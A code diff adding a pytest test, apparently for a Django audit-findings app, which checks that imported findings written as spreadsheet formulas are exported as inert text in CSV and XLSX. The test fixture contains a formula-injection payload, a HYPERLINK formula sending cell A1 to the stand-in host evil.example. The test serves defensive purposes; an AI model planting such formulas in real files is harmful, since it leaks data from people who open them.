@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import openpyxl
@@ -356,3 +357,27 @@ def test_a_year_file_of_findings_through_the_overview(
         reverse("compliance:export_year_findings", args=[year.year, "csv"])
     )
     assert len(jatim.content.decode("utf-8-sig").splitlines()) == 2
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_a_finding_written_as_a_formula_is_exported_as_text(
+    ministry: Ministry, year: AssessmentYear, fmt: str
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
+    client = ministry.client_for("tpi_itjen")
+    header = "kode_unit,sumber,nomor_laporan,tanggal_laporan,nomor_temuan,temuan,rekomendasi\n"
+    line = f'KANIM_SBY,BPK,1/LHP,2025-05-20,1,"{link.replace(chr(34), chr(34) * 2)}",@R\n'
+    url = reverse("compliance:import_year_findings", args=[year.year])
+    assert client.post(url, {"file": SimpleUploadedFile("t.csv", (header + line).encode())})
+    assert Finding.objects.get().finding == link
+    exported = client.get(reverse("compliance:export_year_findings", args=[year.year, fmt]))
+    assert "no-store" in exported["Cache-Control"]  # names and findings stay out of caches
+    if fmt == "csv":
+        row = next(csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig"))))
+        assert (row["temuan"], row["rekomendasi"]) == (f"'{link}", "'@R")
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(exported.content)).active
+        assert sheet is not None
+        cells = {head.value: cell for head, cell in zip(sheet[1], sheet[2], strict=True)}
+        assert (cells["temuan"].value, cells["temuan"].data_type) == (link, "s")
+        assert (cells["rekomendasi"].value, cells["rekomendasi"].data_type) == ("@R", "s")
